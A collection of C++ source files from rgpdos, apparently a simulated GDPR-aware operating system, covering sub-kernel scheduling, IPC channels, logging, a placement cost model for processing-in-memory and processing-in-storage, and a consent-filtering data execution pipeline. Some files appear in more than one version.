  alpha_ = 1.0 / (1.0 - theta);
  eta_ = (1.0 - std::pow(2.0 / double(n), 1.0 - theta)) / (1.0 - zeta2 / zetan_);
}

namespace {
struct ThreadRngSlot {
  Rng rng{Rng::StreamSeed(0x9E3779B97F4A7C15ULL, NextThreadOrdinal())};

  static std::uint64_t NextThreadOrdinal() {
    static std::atomic<std::uint64_t> next{0};
    return next.fetch_add(1, std::memory_order_relaxed);
  }
};
thread_local ThreadRngSlot t_rng;
}  // namespace

void SeedThreadRng(std::uint64_t seed, std::uint64_t stream) {
  t_rng.rng = Rng(Rng::StreamSeed(seed, stream));
}

Rng& ThreadRng() { return t_rng.rng; }

std::uint64_t Zipf::Next() {
  // Gray & al. "Quickly generating billion-record synthetic databases".
  const double u = rng_.NextDouble();
  const double uz = u * zetan_;
  if (uz < 1.0) return 0;
  if (uz < 1.0 + std::pow(0.5, theta_)) return 1;
  auto v = static_cast<std::uint64_t>(
      double(n_) * std::pow(eta_ * u - eta_ + 1.0, alpha_));
  return v >= n_ ? n_ - 1 : v;
}

}  // namespace rgpdos
