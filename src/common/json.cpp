#include "common/json.hpp"

namespace rgpdos {

std::string JsonEscape(std::string_view text) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  out.reserve(text.size());
  for (const char c : text) {
    const auto u = static_cast<unsigned char>(c);
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (u < 0x20) {
          out += "\\u00";
          out += kHex[u >> 4];
          out += kHex[u & 0xF];
        } else {
          out += c;
        }
    }
  }
  return out;
}

}  // namespace rgpdos
