// Minimal leveled logger. Components log enforcement decisions here in
// addition to the structured audit trail; default level is kWarn so tests
// and benches stay quiet.
#pragma once

#include <sstream>
#include <string>

namespace rgpdos {

enum class LogLevel : int { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3 };

/// Process-wide minimum level (defaults to kWarn).
void SetLogLevel(LogLevel level);
LogLevel GetLogLevel();

/// Emit one line to stderr if `level` passes the threshold.
void LogLine(LogLevel level, const std::string& component,
             const std::string& message);

/// Stream-style helper: RGPD_LOG(kInfo, "dbfs") << "mounted " << n;
class LogStream {
 public:
  LogStream(LogLevel level, std::string component)
      : level_(level), component_(std::move(component)) {}
  ~LogStream() { LogLine(level_, component_, stream_.str()); }
  LogStream(const LogStream&) = delete;
  LogStream& operator=(const LogStream&) = delete;

  template <typename T>
  LogStream& operator<<(const T& v) {
    stream_ << v;
    return *this;
  }

 private:
  LogLevel level_;
  std::string component_;
  std::ostringstream stream_;
};

#define RGPD_LOG(level, component) \
  ::rgpdos::LogStream(::rgpdos::LogLevel::level, (component))

}  // namespace rgpdos
