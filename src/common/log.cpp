#include "common/log.hpp"

#include <atomic>
#include <cstdio>
#include <mutex>

namespace rgpdos {

namespace {
std::atomic<int> g_level{static_cast<int>(LogLevel::kWarn)};
std::mutex g_mutex;

const char* LevelName(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug: return "DEBUG";
    case LogLevel::kInfo: return "INFO";
    case LogLevel::kWarn: return "WARN";
    case LogLevel::kError: return "ERROR";
  }
  return "?";
}
}  // namespace

void SetLogLevel(LogLevel level) {
  g_level.store(static_cast<int>(level), std::memory_order_relaxed);
}

LogLevel GetLogLevel() {
  return static_cast<LogLevel>(g_level.load(std::memory_order_relaxed));
}

void LogLine(LogLevel level, const std::string& component,
             const std::string& message) {
  if (static_cast<int>(level) < g_level.load(std::memory_order_relaxed)) {
    return;
  }
  std::lock_guard<std::mutex> lock(g_mutex);
  std::fprintf(stderr, "[%s] %s: %s\n", LevelName(level), component.c_str(),
               message.c_str());
}

}  // namespace rgpdos
