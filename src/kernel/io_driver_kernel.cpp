#include "kernel/io_driver_kernel.hpp"

#include "metrics/metrics.hpp"

namespace rgpdos::kernel {

std::uint64_t IoDriverKernel::Run(std::uint64_t budget) {
  const std::uint64_t served_before = served_;
  std::uint64_t used = 0;
  while (used + cost_per_request_ <= budget) {
    std::optional<BlockRequest> request = requests_.Pop();
    if (!request.has_value()) break;
    BlockResponse response;
    response.tag = request->tag;
    switch (request->kind) {
      case BlockRequest::Kind::kRead:
        response.status = device_->ReadBlock(request->block, response.data);
        break;
      case BlockRequest::Kind::kWrite:
        response.status = device_->WriteBlock(request->block, request->data);
        break;
      case BlockRequest::Kind::kFlush:
        response.status = device_->Flush();
        break;
    }
    // A full response channel drops the response after serving the IO;
    // the client observes it as a timeout. Counted, not fatal.
    (void)responses_.Push(std::move(response));
    used += cost_per_request_;
    ++served_;
  }
  RGPD_METRIC_COUNT_N("kernel.io.requests", served_ - served_before);
  AccountUnits(used);
  return used;
}

}  // namespace rgpdos::kernel
