// Machine: aggregates sub-kernels and dynamically partitions CPU and
// memory between them ("The different kernels cooperate to (dynamically)
// partition CPU and memory resources", paper §2).
//
// Scheduling model: each Tick(total_units) splits the CPU budget between
// kernels proportionally to their shares; unused slack from idle kernels
// is redistributed (work-conserving), so partitioning bounds interference
// without wasting capacity. Benches compare this against a SHARED
// configuration (a single queue for PD+NPD) to quantify the isolation the
// purpose-kernel model buys.
#pragma once

#include <memory>
#include <string_view>
#include <vector>

#include "kernel/subkernel.hpp"

namespace rgpdos::kernel {

class Machine {
 public:
  /// `total_memory` is partitioned across kernels proportionally to their
  /// shares whenever shares change (0 = no memory accounting).
  explicit Machine(std::uint64_t total_memory = 0)
      : total_memory_(total_memory) {}

  /// Register a kernel with a CPU share weight (>= 1).
  SubKernel* AddKernel(std::unique_ptr<SubKernel> kernel,
                       std::uint64_t share);

  /// Change a kernel's share at runtime (dynamic repartitioning).
  Status Repartition(std::string_view name, std::uint64_t new_share);

  /// Run one scheduling round with `total_units` of CPU.
  void Tick(std::uint64_t total_units);

  [[nodiscard]] SubKernel* Find(std::string_view name);
  [[nodiscard]] std::uint64_t ticks() const { return ticks_; }
  [[nodiscard]] std::size_t kernel_count() const { return entries_.size(); }

 private:
  struct Entry {
    std::unique_ptr<SubKernel> kernel;
    std::uint64_t share;
  };
  void RecomputeMemoryQuotas();

  std::vector<Entry> entries_;
  std::uint64_t total_memory_;
  std::uint64_t ticks_ = 0;
};

}  // namespace rgpdos::kernel
