#include "kernel/subkernel.hpp"

namespace rgpdos::kernel {

std::string_view KernelKindName(KernelKind kind) {
  switch (kind) {
    case KernelKind::kIoDriver: return "io_driver";
    case KernelKind::kGeneralPurpose: return "general_purpose";
    case KernelKind::kRgpd: return "rgpd";
  }
  return "?";
}

Status SubKernel::ChargeMemory(std::uint64_t bytes) {
  if (memory_quota_ != 0 && memory_used_ + bytes > memory_quota_) {
    return ResourceExhausted(name_ + ": memory quota exceeded");
  }
  memory_used_ += bytes;
  return Status::Ok();
}

void SubKernel::ReleaseMemory(std::uint64_t bytes) {
  memory_used_ = bytes >= memory_used_ ? 0 : memory_used_ - bytes;
}

Status JobQueueKernel::Submit(Job job) {
  if (job.cost == 0) job.cost = 1;
  queue_.push_back(std::move(job));
  return Status::Ok();
}

std::uint64_t JobQueueKernel::Run(std::uint64_t budget) {
  std::uint64_t used = 0;
  while (used < budget && !queue_.empty()) {
    Job& job = queue_.front();
    const std::uint64_t remaining = job.cost - current_progress_;
    const std::uint64_t step = std::min(remaining, budget - used);
    current_progress_ += step;
    used += step;
    if (current_progress_ == job.cost) {
      if (job.on_complete) job.on_complete();
      queue_.pop_front();
      current_progress_ = 0;
      ++completed_;
    }
  }
  AccountUnits(used);
  return used;
}

std::uint64_t JobQueueKernel::Backlog() const {
  std::uint64_t total = 0;
  for (const Job& job : queue_) total += job.cost;
  return total - current_progress_;
}

}  // namespace rgpdos::kernel
