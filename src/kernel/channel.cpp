// Channel is header-only; this TU anchors the library target.
#include "kernel/channel.hpp"
