#include "kernel/placement.hpp"

#include <algorithm>
#include <thread>

#include "metrics/metrics.hpp"

namespace rgpdos::kernel {

CpuPartition CpuPartition::Plan(unsigned total_cpus, unsigned pd_share,
                                unsigned npd_share) {
  CpuPartition plan;
  plan.total = total_cpus != 0 ? total_cpus
                               : std::max(1u, std::thread::hardware_concurrency());
  const unsigned shares = std::max(1u, pd_share + npd_share);
  plan.ded_workers =
      std::max(1u, plan.total * std::max(1u, pd_share) / shares);
  if (npd_share > 0 && plan.total > 1 && plan.ded_workers == plan.total) {
    --plan.ded_workers;
  }
  plan.npd_reserved = plan.total - plan.ded_workers;
  RGPD_METRIC_GAUGE_SET("kernel.cpu.total", plan.total);
  RGPD_METRIC_GAUGE_SET("kernel.cpu.ded_workers", plan.ded_workers);
  RGPD_METRIC_GAUGE_SET("kernel.cpu.npd_reserved", plan.npd_reserved);
  return plan;
}

std::string_view PlacementName(DedPlacement placement) {
  switch (placement) {
    case DedPlacement::kHost: return "host";
    case DedPlacement::kPim: return "pim";
    case DedPlacement::kPis: return "pis";
  }
  return "?";
}

void RecordPlacementChoice(DedPlacement placement) {
  switch (placement) {
    case DedPlacement::kHost:
      RGPD_METRIC_COUNT("kernel.placement.host");
      break;
    case DedPlacement::kPim:
      RGPD_METRIC_COUNT("kernel.placement.pim");
      break;
    case DedPlacement::kPis:
      RGPD_METRIC_COUNT("kernel.placement.pis");
      break;
  }
}

}  // namespace rgpdos::kernel
