#include "kernel/placement.hpp"

#include "metrics/metrics.hpp"

namespace rgpdos::kernel {

std::string_view PlacementName(DedPlacement placement) {
  switch (placement) {
    case DedPlacement::kHost: return "host";
    case DedPlacement::kPim: return "pim";
    case DedPlacement::kPis: return "pis";
  }
  return "?";
}

void RecordPlacementChoice(DedPlacement placement) {
  switch (placement) {
    case DedPlacement::kHost:
      RGPD_METRIC_COUNT("kernel.placement.host");
      break;
    case DedPlacement::kPim:
      RGPD_METRIC_COUNT("kernel.placement.pim");
      break;
    case DedPlacement::kPis:
      RGPD_METRIC_COUNT("kernel.placement.pis");
      break;
  }
}

}  // namespace rgpdos::kernel
