#include "kernel/placement.hpp"

namespace rgpdos::kernel {

std::string_view PlacementName(DedPlacement placement) {
  switch (placement) {
    case DedPlacement::kHost: return "host";
    case DedPlacement::kPim: return "pim";
    case DedPlacement::kPis: return "pis";
  }
  return "?";
}

}  // namespace rgpdos::kernel
