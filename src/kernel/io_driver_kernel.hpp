// IO driver kernel: "every IO device is managed by a dedicated kernel
// which is mainly composed of the device driver" (paper §2). The general
// purpose kernel owns no IO drivers because devices are traversed by PD;
// instead, block requests flow over channels to these lightweight
// kernels, which are part of the to-be-proven TCB alongside rgpdOS.
#pragma once

#include "blockdev/block_device.hpp"
#include "kernel/channel.hpp"
#include "kernel/subkernel.hpp"

namespace rgpdos::kernel {

struct BlockRequest {
  enum class Kind : std::uint8_t { kRead, kWrite, kFlush } kind;
  blockdev::BlockIndex block = 0;
  Bytes data;              ///< payload for writes
  std::uint64_t tag = 0;   ///< request id, echoed in the response
};

struct BlockResponse {
  std::uint64_t tag = 0;
  Status status;
  Bytes data;  ///< payload for reads
};

class IoDriverKernel final : public SubKernel {
 public:
  /// `cost_per_request` models driver work units per IO.
  IoDriverKernel(std::string name, blockdev::BlockDevice* device,
                 std::uint64_t cost_per_request = 1)
      : SubKernel(std::move(name), KernelKind::kIoDriver),
        device_(device),
        cost_per_request_(cost_per_request) {}

  [[nodiscard]] Channel<BlockRequest>& requests() { return requests_; }
  [[nodiscard]] Channel<BlockResponse>& responses() { return responses_; }

  std::uint64_t Run(std::uint64_t budget) override;
  [[nodiscard]] std::uint64_t Backlog() const override {
    return requests_.size() * cost_per_request_;
  }

  [[nodiscard]] std::uint64_t served_requests() const { return served_; }

 private:
  blockdev::BlockDevice* device_;  // borrowed
  std::uint64_t cost_per_request_;
  Channel<BlockRequest> requests_;
  Channel<BlockResponse> responses_;
  std::uint64_t served_ = 0;
};

}  // namespace rgpdos::kernel
