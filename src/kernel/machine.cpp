#include "kernel/machine.hpp"

#include "metrics/metrics.hpp"

namespace rgpdos::kernel {

SubKernel* Machine::AddKernel(std::unique_ptr<SubKernel> kernel,
                              std::uint64_t share) {
  entries_.push_back(Entry{std::move(kernel), std::max<std::uint64_t>(
                                                  share, 1)});
  RecomputeMemoryQuotas();
  return entries_.back().kernel.get();
}

Status Machine::Repartition(std::string_view name,
                            std::uint64_t new_share) {
  for (Entry& entry : entries_) {
    if (entry.kernel->name() == name) {
      entry.share = std::max<std::uint64_t>(new_share, 1);
      RecomputeMemoryQuotas();
      return Status::Ok();
    }
  }
  return NotFound("no kernel named " + std::string(name));
}

void Machine::RecomputeMemoryQuotas() {
  if (total_memory_ == 0) return;
  std::uint64_t total_share = 0;
  for (const Entry& entry : entries_) total_share += entry.share;
  for (Entry& entry : entries_) {
    entry.kernel->SetMemoryQuota(total_memory_ * entry.share / total_share);
  }
}

void Machine::Tick(std::uint64_t total_units) {
  ++ticks_;
  RGPD_METRIC_COUNT("kernel.machine.ticks");
  if (entries_.empty() || total_units == 0) return;

  std::uint64_t total_share = 0;
  for (const Entry& entry : entries_) total_share += entry.share;

  // First pass: proportional budgets. Track slack against the FULL tick
  // budget so integer-division remainders are redistributed too.
  std::uint64_t leftover = total_units;
  for (Entry& entry : entries_) {
    const std::uint64_t budget = total_units * entry.share / total_share;
    leftover -= entry.kernel->Run(budget);
  }
  // Work-conserving second pass: hand slack to backlogged kernels in
  // share order.
  for (Entry& entry : entries_) {
    if (leftover == 0) break;
    if (entry.kernel->Backlog() == 0) continue;
    leftover -= entry.kernel->Run(leftover);
  }
}

SubKernel* Machine::Find(std::string_view name) {
  for (Entry& entry : entries_) {
    if (entry.kernel->name() == name) return entry.kernel.get();
  }
  return nullptr;
}

}  // namespace rgpdos::kernel
