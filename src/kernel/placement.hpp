// DED placement model — paper §3(3): "DED could be executed in multiple
// locations with the help of Processing in Memory (e.g. UPMEM) and
// Processing in Storage."
//
// An analytical cost model for WHERE a Data Execution Domain instance
// should run. Each location trades data movement against compute speed:
//
//   host   pulls PD across the full storage+memory path into fast cores;
//   PIM    computes inside the memory device: no DRAM-to-core transfer,
//          but DPU-class cores (UPMEM-like) are ~10x slower;
//   PIS    computes inside the storage device: nothing crosses the
//          interconnect at all, but storage-side cores are slowest and
//          only the (small) result travels back.
//
// The constants approximate published UPMEM/SmartSSD characterisations;
// like the rest of the simulation, the model is about crossover SHAPES,
// not absolute nanoseconds.
#pragma once

#include <cstdint>
#include <string_view>

namespace rgpdos::kernel {

enum class DedPlacement : std::uint8_t {
  kHost = 0,  ///< conventional: data moves to the CPU
  kPim,       ///< processing-in-memory (UPMEM-like DPUs)
  kPis,       ///< processing-in-storage (computational SSD)
};

std::string_view PlacementName(DedPlacement placement);

/// Bump the `kernel.placement.<location>` counter for a planner decision.
void RecordPlacementChoice(DedPlacement placement);

/// One DED invocation's resource demand, as the placement planner sees it.
struct DedWorkload {
  std::uint64_t bytes_in = 0;     ///< PD loaded (rows + membranes)
  std::uint64_t bytes_out = 0;    ///< derived PD + NPD returned
  std::uint64_t compute_ops = 0;  ///< abstract work units of ded_execute
};

/// Per-location cost coefficients. `ingest` is whatever path the input
/// bytes must cross to reach the compute: storage->DRAM for host/PIM,
/// the internal flash channel for PIS.
struct PlacementProfile {
  double ingest_ns_per_byte = 0;         ///< bytes_in -> compute site
  double memory_to_core_ns_per_byte = 0; ///< extra DRAM->core hop (host)
  double ns_per_op = 0;                  ///< compute speed
  double result_return_ns_per_byte = 0;  ///< result path back

  static PlacementProfile Host() {
    // NVMe ~2 GB/s effective, random DRAM->core ~4 GB/s effective,
    // 3 GHz-class cores.
    return {0.5, 0.25, 0.33, 0.05};
  }
  static PlacementProfile Pim() {
    // Data still crosses storage->memory, then stays where the DPUs
    // are (no DRAM->core hop); DPU ~10x slower than a host core.
    return {0.5, 0.0, 3.3, 0.05};
  }
  static PlacementProfile Pis() {
    // Only the internal flash channel is crossed (~5 GB/s); embedded
    // cores ~30x slower.
    return {0.2, 0.0, 10.0, 0.05};
  }

  [[nodiscard]] double EstimateNs(const DedWorkload& workload) const {
    return double(workload.bytes_in) *
               (ingest_ns_per_byte + memory_to_core_ns_per_byte) +
           double(workload.compute_ops) * ns_per_op +
           double(workload.bytes_out) * result_return_ns_per_byte;
  }
};

/// Host-CPU partition for the concurrent enforcement stack: of the
/// machine's cores, how many become DED pipeline workers (the
/// DedExecutor pool) and how many stay reserved for NPD / application
/// threads. The split follows the share ratio (default 3:1 in favour of
/// the PD path — enforcement is the product, Fig-4) but always leaves
/// at least one worker and, when the machine has more than one core, at
/// least one reserved core so NPD work is never starved.
struct CpuPartition {
  unsigned total = 1;         ///< cores considered
  unsigned ded_workers = 1;   ///< DedExecutor pool size
  unsigned npd_reserved = 0;  ///< cores left to NPD/app threads

  /// `total_cpus` = 0 probes std::thread::hardware_concurrency().
  /// Publishes kernel.cpu.* gauges for the snapshot artifact.
  static CpuPartition Plan(unsigned total_cpus = 0, unsigned pd_share = 3,
                           unsigned npd_share = 1);
};

/// Planner: pick the cheapest placement for a workload.
class PlacementPlanner {
 public:
  PlacementPlanner(PlacementProfile host = PlacementProfile::Host(),
                   PlacementProfile pim = PlacementProfile::Pim(),
                   PlacementProfile pis = PlacementProfile::Pis())
      : host_(host), pim_(pim), pis_(pis) {}

  [[nodiscard]] double EstimateNs(DedPlacement placement,
                                  const DedWorkload& workload) const {
    switch (placement) {
      case DedPlacement::kHost: return host_.EstimateNs(workload);
      case DedPlacement::kPim: return pim_.EstimateNs(workload);
      case DedPlacement::kPis: return pis_.EstimateNs(workload);
    }
    return 0;
  }

  [[nodiscard]] DedPlacement Choose(const DedWorkload& workload) const {
    DedPlacement best = DedPlacement::kHost;
    double best_ns = EstimateNs(best, workload);
    for (DedPlacement candidate : {DedPlacement::kPim, DedPlacement::kPis}) {
      const double ns = EstimateNs(candidate, workload);
      if (ns < best_ns) {
        best = candidate;
        best_ns = ns;
      }
    }
    RecordPlacementChoice(best);
    return best;
  }

 private:
  PlacementProfile host_;
  PlacementProfile pim_;
  PlacementProfile pis_;
};

}  // namespace rgpdos::kernel
