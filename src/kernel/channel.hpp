// Bounded message channel — the IPC primitive between sub-kernels.
//
// The purpose-kernel model (paper §2) splits the machine kernel into
// cooperating sub-kernels; they exchange requests and responses over
// these channels instead of sharing address space. The simulation is
// single-threaded and cooperative (deterministic), so the channel is a
// plain bounded queue with explicit overflow signalling.
#pragma once

#include <deque>
#include <optional>

#include "common/status.hpp"
#include "metrics/metrics.hpp"

namespace rgpdos::kernel {

template <typename T>
class Channel {
 public:
  explicit Channel(std::size_t capacity = 1024) : capacity_(capacity) {}

  /// Enqueue; kResourceExhausted when full (sender must back off).
  Status Push(T message) {
    if (queue_.size() >= capacity_) {
      RGPD_METRIC_COUNT("kernel.channel.full");
      return ResourceExhausted("channel full");
    }
    queue_.push_back(std::move(message));
    ++total_pushed_;
    RGPD_METRIC_COUNT("kernel.channel.pushed");
    return Status::Ok();
  }

  /// Dequeue; empty optional when nothing is pending.
  std::optional<T> Pop() {
    if (queue_.empty()) return std::nullopt;
    T out = std::move(queue_.front());
    queue_.pop_front();
    return out;
  }

  [[nodiscard]] std::size_t size() const { return queue_.size(); }
  [[nodiscard]] bool empty() const { return queue_.empty(); }
  [[nodiscard]] std::size_t capacity() const { return capacity_; }
  [[nodiscard]] std::uint64_t total_pushed() const { return total_pushed_; }

 private:
  std::size_t capacity_;
  std::deque<T> queue_;
  std::uint64_t total_pushed_ = 0;
};

}  // namespace rgpdos::kernel
