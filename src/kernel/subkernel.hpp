// Sub-kernels of the purpose-kernel model.
//
// "The kernel is the aggregation of several sub-kernels where each
// sub-kernel achieves a specific purpose": IO driver kernels (one per
// device), a general-purpose kernel hosting NPD, and rgpdOS hosting PD
// (paper §2). Here each sub-kernel is a cooperative work consumer: the
// Machine hands it a CPU budget in abstract work units each tick, and it
// accounts memory against a quota set by the ResourcePartitioner.
#pragma once

#include <deque>
#include <functional>
#include <string>

#include "common/status.hpp"

namespace rgpdos::kernel {

enum class KernelKind : std::uint8_t {
  kIoDriver = 0,
  kGeneralPurpose,  ///< hosts and processes NPD; no IO drivers
  kRgpd,            ///< GDPR-aware kernel hosting PD
};

std::string_view KernelKindName(KernelKind kind);

class SubKernel {
 public:
  SubKernel(std::string name, KernelKind kind)
      : name_(std::move(name)), kind_(kind) {}
  virtual ~SubKernel() = default;
  SubKernel(const SubKernel&) = delete;
  SubKernel& operator=(const SubKernel&) = delete;

  /// Consume up to `budget` work units; return units actually used.
  virtual std::uint64_t Run(std::uint64_t budget) = 0;
  /// Pending work units (0 = idle). Lets the Machine redistribute slack.
  [[nodiscard]] virtual std::uint64_t Backlog() const = 0;

  [[nodiscard]] const std::string& name() const { return name_; }
  [[nodiscard]] KernelKind kind() const { return kind_; }

  // ---- memory quota (partitioned by the Machine) ---------------------------
  [[nodiscard]] std::uint64_t memory_quota() const { return memory_quota_; }
  [[nodiscard]] std::uint64_t memory_used() const { return memory_used_; }
  void SetMemoryQuota(std::uint64_t bytes) { memory_quota_ = bytes; }
  Status ChargeMemory(std::uint64_t bytes);
  void ReleaseMemory(std::uint64_t bytes);

  // ---- lifetime counters ----------------------------------------------------
  [[nodiscard]] std::uint64_t units_consumed() const {
    return units_consumed_;
  }

 protected:
  void AccountUnits(std::uint64_t units) { units_consumed_ += units; }

 private:
  std::string name_;
  KernelKind kind_;
  std::uint64_t memory_quota_ = 0;  // 0 = unlimited
  std::uint64_t memory_used_ = 0;
  std::uint64_t units_consumed_ = 0;
};

/// A generic job-queue kernel: jobs carry a cost in work units and an
/// optional completion callback. Used for both the general-purpose (NPD)
/// and rgpd (PD) kernels in the partitioning benches; the real rgpdOS
/// wiring (PS/DED/DBFS) lives in src/core and runs *inside* jobs
/// submitted to the rgpd kernel.
class JobQueueKernel final : public SubKernel {
 public:
  struct Job {
    std::uint64_t cost = 1;
    std::function<void()> on_complete;  // may be empty
  };

  JobQueueKernel(std::string name, KernelKind kind)
      : SubKernel(std::move(name), kind) {}

  Status Submit(Job job);

  std::uint64_t Run(std::uint64_t budget) override;
  [[nodiscard]] std::uint64_t Backlog() const override;

  [[nodiscard]] std::uint64_t completed_jobs() const { return completed_; }
  [[nodiscard]] std::size_t queued_jobs() const { return queue_.size(); }

 private:
  std::deque<Job> queue_;
  std::uint64_t current_progress_ = 0;  // units already spent on front job
  std::uint64_t completed_ = 0;
};

}  // namespace rgpdos::kernel
