// Data Execution Domain (paper §2) — "any F_pd function is always
// executed as an instance of the DED, an environment that ensures GDPR
// compliance on manipulated PD".
//
// The eight pipeline steps run in order, each timed for the Fig-4
// breakdown:
//   ded_type2req        input parameter type -> DBFS requests
//   ded_load_membrane   fetch membranes FIRST (no PD bytes yet)
//   ded_filter          keep only records whose membrane approves the
//                       purpose now (consent + TTL)
//   ded_load_data       fetch rows for the survivors only
//   ded_execute         run the implementation under the syscall filter
//   ded_build_membrane  wrap derived PD in a membrane
//   ded_store           persist derived PD in DBFS
//   ded_return          hand back PdRefs + NPD, never PD by value
//
// A DED is only constructible by the ProcessingStore (rule 2): the
// constructor requires a PassKey that only PS can mint.
//
// Parallel execution: when the PS hands the DED a DedExecutor, the
// per-record stages (load_membrane, filter, load_data, execute) fan out
// over contiguous candidate shards; ded_store stays serial so derived
// record ids are assigned in a deterministic order. Each record's work
// is self-contained — its log entries are staged per record and merged
// in candidate order, so the processing log carries the same per-record
// happens-before ordering as a serial run, and the first failing record
// (by candidate index) decides the returned error exactly as it would
// serially. Stage timings are summed across lanes (CPU time, not wall
// time, once parallel).
#pragma once

#include "core/executor.hpp"
#include "core/processing.hpp"
#include "core/processing_log.hpp"
#include "dbfs/dbfs.hpp"
#include "dsl/ast.hpp"
#include "sentinel/policy.hpp"

namespace rgpdos::core {

class ProcessingStore;

class DataExecutionDomain {
 public:
  /// Capability token: only ProcessingStore can create one, which makes
  /// "PS is the only entry point to invoke a processing" a compile-time
  /// property on top of the sentinel's runtime check.
  class PassKey {
   private:
    PassKey() = default;
    friend class ProcessingStore;
  };

  /// `executor` may be null: the pipeline then runs single-lane.
  DataExecutionDomain(PassKey, dbfs::Dbfs* dbfs, sentinel::Sentinel* sentinel,
                      ProcessingLog* log, const Clock* clock,
                      DedExecutor* executor = nullptr)
      : dbfs_(dbfs),
        sentinel_(sentinel),
        log_(log),
        clock_(clock),
        executor_(executor) {}

  /// Run the full pipeline for `processing` (its purpose declaration and
  /// implementation) over either one record or all records of the
  /// purpose's input type. When `field_trace` is non-null, every field
  /// the implementation actually reads is recorded there — the
  /// observation channel of PS's runtime purpose verifier (the paper's
  /// §3(4) purpose/implementation matching problem, attacked dynamically).
  Result<InvokeResult> Execute(
      const dsl::PurposeDecl& purpose, const std::string& processing_name,
      const ProcessingFn& fn, const std::optional<PdRef>& target,
      std::set<std::string>* field_trace = nullptr,
      const std::vector<FieldPredicate>& predicates = {});

 private:
  /// Effective field scope = subject consent ∩ purpose declaration
  /// (data minimisation: the function sees the smaller of what the
  /// subject allows and what the purpose asked for).
  Result<std::set<std::string>> EffectiveScope(
      const dsl::TypeDecl& type, const membrane::Consent& consent,
      const dsl::PurposeDecl& purpose) const;

  Result<membrane::Membrane> BuildDerivedMembrane(
      const dsl::PurposeDecl& purpose, const membrane::Membrane& source)
      const;

  /// Everything one candidate record produced, staged so shards can run
  /// the per-record stages concurrently and Execute can merge the
  /// results in candidate order.
  struct RecordOutcome {
    struct StagedLog {
      dbfs::SubjectId subject = 0;
      dbfs::RecordId record = 0;
      LogOutcome outcome = LogOutcome::kProcessed;
      std::string detail;
    };
    std::vector<StagedLog> logs;
    Status error = Status::Ok();  ///< non-OK halts the merge at this record
    bool processed = false;
    std::uint64_t filtered = 0;
    Bytes npd;
    std::optional<db::Row> derived_row;
    membrane::Membrane source_membrane;  ///< set when derived_row is
    std::set<std::string> fields;        ///< this record's field trace
    std::uint64_t syscalls_denied = 0;
    StageTimings timings;
  };

  /// The per-record pipeline slice: load_membrane -> filter -> load_data
  /// -> predicates -> execute. Pure with respect to DED state (all
  /// shared mutation is deferred into the returned outcome), so any lane
  /// may run it.
  RecordOutcome RunRecord(dbfs::RecordId id, const dsl::TypeDecl& input_type,
                          const db::Schema& input_schema,
                          const dsl::PurposeDecl& purpose,
                          const std::string& processing_name,
                          const ProcessingFn& fn,
                          const std::vector<FieldPredicate>& predicates,
                          TimeMicros now, bool want_trace) const;

  dbfs::Dbfs* dbfs_;             // borrowed
  sentinel::Sentinel* sentinel_; // borrowed
  ProcessingLog* log_;           // borrowed
  const Clock* clock_;           // borrowed
  DedExecutor* executor_;        // borrowed; null = single-lane
};

}  // namespace rgpdos::core
