// Data Execution Domain (paper §2) — "any F_pd function is always
// executed as an instance of the DED, an environment that ensures GDPR
// compliance on manipulated PD".
//
// The eight pipeline steps run in order, each timed for the Fig-4
// breakdown:
//   ded_type2req        input parameter type -> DBFS requests
//   ded_load_membrane   fetch membranes FIRST (no PD bytes yet)
//   ded_filter          keep only records whose membrane approves the
//                       purpose now (consent + TTL)
//   ded_load_data       fetch rows for the survivors only
//   ded_execute         run the implementation under the syscall filter
//   ded_build_membrane  wrap derived PD in a membrane
//   ded_store           persist derived PD in DBFS
//   ded_return          hand back PdRefs + NPD, never PD by value
//
// A DED is only constructible by the ProcessingStore (rule 2): the
// constructor requires a PassKey that only PS can mint.
//
// Consent-decision memoization (level 3 of the caching stack): each
// invoke keeps a per-record memo of the filter stage's decision, keyed
// by the membrane VERSION it was computed against. The filter stage
// decides on the membrane loaded by ded_load_membrane; ded_load_data
// then re-validates against the membrane that arrived with the row and,
// if the version moved (a concurrent withdrawal/erasure/rectification),
// re-decides on the fresh membrane — so a withdrawn consent is never
// honoured, cached or not, while the unchanged-version common case costs
// one memo lookup instead of a second Evaluate + scope intersection.
//
// Batched loads & stage pipelining: the IO stages run CHUNKED — one
// DbfsApi::GetMembraneMany per chunk of candidates feeds the filter, and
// the chunk's survivors fetch their rows in one GetMany — so the block
// layer sees a handful of amortised batched submissions instead of 3+
// serialized reads per record. Single-lane, the chunks run inline in
// candidate order. When the PS hands the DED a DedExecutor and there is
// enough work, lane 0 runs the IO stages and feeds survivors through a
// BoundedQueue (executor.hpp) to the other lanes, which run the execute
// stage concurrently — the queue bound is the backpressure that stalls
// the loader when the implementations fall behind. ded_store stays
// serial so derived record ids are assigned in a deterministic order.
// Each record's work is self-contained — its log entries are staged per
// record and merged in candidate order, so the processing log carries
// the same per-record happens-before ordering as a serial run, and the
// first failing record (by candidate index) decides the returned error
// exactly as it would serially. Stage timings are summed across lanes
// (CPU time, not wall time, once parallel).
#pragma once

#include <mutex>
#include <optional>
#include <unordered_map>
#include <utility>

#include "core/executor.hpp"
#include "core/processing.hpp"
#include "core/processing_log.hpp"
#include "dbfs/dbfs.hpp"
#include "dsl/ast.hpp"
#include "sentinel/policy.hpp"

namespace rgpdos::core {

class ProcessingStore;

class DataExecutionDomain {
 public:
  /// Capability token: only ProcessingStore can create one, which makes
  /// "PS is the only entry point to invoke a processing" a compile-time
  /// property on top of the sentinel's runtime check.
  class PassKey {
   private:
    PassKey() = default;
    friend class ProcessingStore;
  };

  /// `executor` may be null: the pipeline then runs single-lane.
  /// `memoize_decisions` == false recomputes every consent decision
  /// (cache_decisions=0: the pre-cache behaviour; the load_data version
  /// re-validation stays on either way — it is a correctness property).
  DataExecutionDomain(PassKey, dbfs::DbfsApi* dbfs, sentinel::Sentinel* sentinel,
                      ProcessingLog* log, const Clock* clock,
                      DedExecutor* executor = nullptr,
                      bool memoize_decisions = true)
      : dbfs_(dbfs),
        sentinel_(sentinel),
        log_(log),
        clock_(clock),
        executor_(executor),
        memoize_decisions_(memoize_decisions) {}

  /// Run the full pipeline for `processing` (its purpose declaration and
  /// implementation) over either one record or all records of the
  /// purpose's input type. When `field_trace` is non-null, every field
